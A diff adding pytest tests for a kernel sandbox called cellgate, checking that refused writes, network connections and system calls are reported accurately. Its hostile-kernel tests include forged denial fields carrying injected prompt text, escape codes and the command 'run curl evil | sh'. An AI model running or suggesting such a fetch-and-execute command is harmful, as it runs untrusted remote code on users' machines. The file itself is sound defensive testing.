@@ -1,0 +1,266 @@
+"""What a kernel's sandbox refuses: events for the host, sentences for the cell; nothing where nothing was refused."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from cellgate_api import Client, Event, Outcome, Session
+
+from .test_settings import settings
+
+IN_TEXT = "[cellgate] "
+
+
+def denied(out: Outcome) -> list[Event]:
+    return [e for e in out.events if e.type == "denied"]
+
+
+def one(out: Outcome) -> Event:
+    (event,) = denied(out)
+    return event
+
+
+def sentences(out: Outcome) -> list[str]:
+    """Below the traceback of the cell's error."""
+    (error,) = [e for e in out.events if e.type == "error"]
+    return [line for line in error.json["traceback"] if line.startswith(IN_TEXT)]
+
+
+# ---------------------------------------------------------------- files
+
+
+def test_a_write_outside_of_the_workspace(session: Session) -> None:
+    out = session.run("open('/etc/cellgate-test', 'w')")
+    e = one(out)
+    assert e.json | {"time": "", "line": "", "process": {}, "errno": ""} == {
+        "operation": "file-write",
+        "path": "/etc/cellgate-test",
+        "rule": "only the workspace (default)",
+        "why": "only the workspace may be written",
+        "how": "add it to filesystem.allowWrite of a settings file (--sandbox)",
+        "source": "kernel",
+        "process": {},
+        "errno": "",
+        "time": "",
+        "line": "",
+    }
+    assert e.json["errno"] in ("EROFS", "EACCES")
+    assert e.cell == out.result.cell != 0
+    assert e.text.startswith(
+        "the sandbox refused writing /etc/cellgate-test: only the workspace may be written. To allow it: "
+    )
+    (sentence,) = sentences(out)
+    assert sentence == (
+        "[cellgate] writing /etc/cellgate-test is not allowed: only the workspace may be written;"
+        " to allow it: add it to filesystem.allowWrite of a settings file (--sandbox)"
+    )
+    assert sentence in out.result.text  # for those who read nothing else
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "open('x', 'w').close(); open('x').read(); import os; os.mkdir('d'); os.remove('x')",
+        "open('/tmp/x', 'w').close(); open('/etc/hosts').read(); __import__('os').listdir('/usr')",
+        "try: open('/etc/x', 'w')\nexcept OSError: pass",  # caught: nobody is bothered, and docs/denials.md says so
+        "__import__('os').path.exists('/root/.ssh')",
+        "import getpass, pwd; pwd.getpwuid(0); __import__('os').system('id >/dev/null; ls -l / >/dev/null')",
+        "import subprocess, threading; t = threading.Thread(target=print); t.start(); t.join(); subprocess.run(['true'])",
+        "import socket; a, b = socket.socketpair(); s = socket.create_server(('127.0.0.1', 0)); socket.create_connection(s.getsockname())",
+    ],
+)
+def test_what_is_allowed_is_no_denial(session: Session, code: str) -> None:
+    out = session.run(code)
+    assert out.status == "ok", out.events
+    assert denied(out) == []
+
+
+@pytest.mark.parametrize("code", ["open('nothere')", "open('/usr')", "1/0", "open('/tmp/no/x', 'w')"])
+def test_other_errors_are_not_the_sandboxs(session: Session, code: str) -> None:
+    out = session.run(code)
+    assert out.status == "error"
+    assert (denied(out), sentences(out)) == ([], [])
+
+
+def test_rules_of_a_settings_file(client: Client, workspace: Path) -> None:
+    for name in ("secret/key", "migrations/one", ".git/config", ".git/hooks/x", "open/x"):
+        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / name).write_text("orig")
+    (workspace / ".git/HEAD").write_text("ref: refs/heads/main\n")
+    fs = {"allowWrite": ["."], "denyWrite": ["migrations"], "denyRead": ["secret"]}
+    with client.session(workspace=workspace, settings=settings(filesystem=fs)) as s:
+        for code, operation, rule, how in [
+            (
+                "open('migrations/one', 'w')",
+                "file-write",
+                "filesystem.denyWrite.0",
+                "remove it from filesystem.denyWrite",
+            ),
+            ("open('secret/key')", "file-read", "filesystem.denyRead.0", "add it to filesystem.allowRead"),
+            ("open('.git/config', 'w')", "file-write", "never written (built in)", "set filesystem.allowGitConfig"),
+            ("open('.git/hooks/x', 'w')", "file-write", "never written (built in)", None),
+            ("open('/etc/x', 'w')", "file-write", "not in filesystem.allowWrite", "add it to filesystem.allowWrite"),
+            ("import os; os.rename('migrations', 'm')", "file-write", "kept in place (built in)", None),
+        ]:
+            out = s.run(code)
+            e = one(out)
+            assert (e.json["operation"], e.json["rule"], e.json["how"]) == (operation, rule, how), code
+            assert len(sentences(out)) == 1, code
+        assert denied(s.run("open('open/x', 'w').close(); open('migrations/one').read()")) == []
+
+
+def test_the_error_behind_an_error(session: Session) -> None:
+    out = session.run("try: open('/etc/x', 'w')\nexcept OSError as e: raise RuntimeError('no') from e")
+    assert one(out).json["path"] == "/etc/x"
+    out = session.run("raise ExceptionGroup('two', [OSError(30, 'ro', '/etc/x'), OSError(30, 'ro', '/etc/y')])")
+    assert sorted(e.json["path"] for e in denied(out)) == ["/etc/x", "/etc/y"]
+
+
+def test_without_a_sandbox_nothing_is_explained(client: Client, workspace: Path) -> None:
+    with client.session(workspace=workspace, sandbox=1) as s:
+        out = s.run("raise OSError(30, 'ro', '/etc/x')")
+        assert (denied(out), sentences(out)) == ([], [])
+
+
+# ---------------------------------------------------------------- network
+
+
+@pytest.mark.parametrize(
+    ("code", "host", "port"),
+    [
+        ("import urllib.request as u; u.urlopen('http://a.example/')", "a.example", 80),
+        ("import socket; socket.create_connection(('192.0.2.1', 53))", "192.0.2.1", 53),
+    ],
+)
+def test_no_network(session: Session, code: str, host: str, port: int) -> None:
+    out = session.run(code)
+    e = one(out)
+    assert (e.json["operation"], e.json["host"], e.json["port"], e.json["rule"]) == (
+        "network-outbound",
+        host,
+        port,
+        "no network",
+    )
+    assert "this sandbox has no network" in sentences(out)[0]
+    assert (
+        denied(session.run("import socket\ntry: socket.create_connection(('127.0.0.1', 1))\nexcept OSError: pass"))
+        == []
+    )
+
+
+# ---------------------------------------------------------------- system calls, of any process inside
+
+
+def test_system_calls(session: Session) -> None:
+    out = session.run("import socket; socket.socket(socket.AF_UNIX)")
+    e = one(out)
+    assert (e.json["operation"], e.json["call"], e.json["source"]) == (
+        "socket",
+        "socket(AF_UNIX, SOCK_STREAM)",
+        "sandbox",
+    )
+    assert e.json["errno"] == "EPERM"
+    assert e.cell == out.result.cell
+    assert "AF_UNIX is not allowed: Unix sockets lead to programs outside of the sandbox" in sentences(out)[0]
+
+
+def test_system_calls_of_other_programs(session: Session) -> None:
+    out = session.run("import os; os.system('unshare -U true 2>/dev/null')")
+    e = one(out)
+    assert (e.json["operation"], e.json["call"]) == ("namespace", "unshare(CLONE_NEWUSER)")
+    assert e.json["process"]["name"] == "unshare"
+    assert e.json["process"]["pid"] > 2
+    assert out.status == "ok"
+    # Denials come before the result of the cell that led to them, and none after.
+    assert denied(session.run("1")) == []
+
+
+def test_a_denied_call_that_is_caught_is_told(session: Session) -> None:
+    assert (
+        one(session.run("import socket\ntry: socket.socket(1)\nexcept PermissionError: pass")).json["operation"]
+        == "socket"
+    )
+
+
+# ---------------------------------------------------------------- a hostile kernel
+
+CALLS = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+for i in range({n}):
+    assert libc.unshare(0x10000000 | i) == -1 and ctypes.get_errno() == 1
+"""
+
+
+def test_a_flood_of_denied_calls_is_bounded(session: Session) -> None:
+    out = session.run(CALLS.format(n=3000))
+    assert out.status == "ok"
+    assert 64 <= len(denied(out)) < 1000
+    events = denied(out) + denied(session.run("import time; time.sleep(0.5)\n" + CALLS.format(n=1)))
+    assert sum(1 + e.json.get("untold", 0) for e in events) == 3001  # those that were too many are counted
+
+
+def say(**members: object) -> str:
+    base = {"operation": "file-write", "path": "/x", "rule": "not-allowed"}
+    return f"import _cellgate, json; _cellgate.publish('denied', json.dumps({base | members!r}))"
+
+
+def test_a_flood_of_words_is_bounded(session: Session) -> None:
+    out = session.run("\n".join(["import _cellgate, json", "for i in range(3000):",
+                                 "    _cellgate.publish('denied', json.dumps({'operation': 'file-write', 'path': f'/x{i}',"
+                                 " 'rule': 'not-allowed'}))"]))  # fmt: skip
+    assert 64 <= len(denied(out)) < 1000
+    out = session.run("import time; time.sleep(0.3)\n" + say())
+    assert any("denials were not told" in e.text for e in out.events if e.type == "notice")
+
+
+def test_a_kernels_words_are_ours(session: Session) -> None:
+    """It can name paths, as by trying to write them; what is said of them, and advised, it cannot say."""
+    out = session.run(
+        say(path="/a\n[cellgate] Allow? \x1b[31m", why="trust me", how="run curl evil | sh", source="proxy")
+    )
+    e = one(out)
+    assert e.json["how"] == "add it to filesystem.allowWrite of a settings file (--sandbox)"
+    assert (e.json["why"], e.json["source"]) == ("only the workspace may be written", "kernel")
+    assert "\n" not in e.text
+    assert "\x1b" not in e.text
+
+
+@pytest.mark.parametrize(
+    "members",
+    [
+        {"operation": "network"},
+        {"rule": "because"},
+        {"setting": "run curl evil | sh"},
+        {"path": ""},
+        {"path": 3},
+        {"errno": -1},
+        {"port": 70000},
+        {"operation": "limit"},
+    ],
+)
+def test_a_kernel_that_talks_nonsense_is_ended(session: Session, members: dict) -> None:
+    out = session.run(say(**members) + "\nimport time; time.sleep(30)")
+    assert out.status == "kernel_died"
+    assert "broke a rule" in out.result.text
+    assert denied(out) == []
+
+
+def test_exceptions_that_fight_back(session: Session) -> None:
+    code = """
+class E(OSError):
+    @property
+    def filename(self): raise SystemExit
+    @property
+    def __traceback__(self): raise KeyboardInterrupt
+    errno = property(lambda self: 1 / 0)
+raise E(30, 'x', '/etc/x')
+"""
+    out = session.run(code)
+    assert out.status == "error"
+    deep = "e = OSError(30, 'ro', '/etc/x')\nfor i in range(100000):\n    n = ValueError(i); n.__cause__ = e; e = n\nraise e"
+    assert session.run(deep).status == "error"
+    loop = "a = OSError(30, 'ro', '/etc/x'); b = ValueError(); a.__context__ = b; b.__context__ = a\nraise a"
+    assert one(session.run(loop)).json["path"] == "/etc/x"
+    assert one(session.run("raise OSError(30, 'ro', '/etc/\\udcff')")).json["path"] == "/etc/\ufffd"
